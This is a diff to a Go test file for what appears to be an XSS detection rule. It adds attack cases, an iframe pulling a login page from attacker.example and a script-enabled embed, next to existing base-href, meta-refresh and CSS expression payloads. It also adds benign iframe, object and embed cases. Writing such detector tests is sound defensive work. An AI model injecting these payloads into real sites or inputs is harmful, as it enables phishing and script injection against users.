@@ -47,6 +47,8 @@ var xssQualityAttacks = []struct{ where, in string }{
 	{"query:q", "<base href=\"//attacker.example/\">"},
 	{"query:q", "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example\">"},
 	{"query:q", "<layer src=\"//attacker.example/l.html\"></layer>"},
+	{"query:q", "<iframe src=//attacker.example/login.html width=100%>"},
+	{"query:q", "<embed src=\"https://attacker.example/m.swf\" allowscriptaccess=always>"},
 	// CSS
 	{"query:q", "<div style=\"width:expression(alert(1))\">"},
 	{"query:q", "<p style=x:expression\\28 alert(1)\\29>"},
@@ -154,6 +156,9 @@ var xssRuleBenign = []struct{ where, in string }{
 	{"query:q", "<input onChange={(e) => setName(e.target.value)} value={name} />"},
 	{"query:q", "<i style=\"content:'\\f101'\"></i>"},
 	{"query:q", "<link rel=\"stylesheet\" href=\"/css/site.css\">"},
+	{"query:q", "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/abc123\" allowfullscreen></iframe>"},
+	{"query:q", "<object data=\"report.pdf\" type=\"application/pdf\" width=\"100%\" height=\"600\"></object>"},
+	{"query:q", "<embed src=\"report.pdf\" type=\"application/pdf\">"},
 	{"body:text", "return \"<progress style='width:{}' max='{}' value='{}'></progress>\".format(w, t, p)"},
 	{"body:text", "style = ''\nif ndef['color']:\n    style += 'color: #%s; ' % ndef['color']"},
 	{"query:q", "<td style=\"text-align:center\">x</td>"},
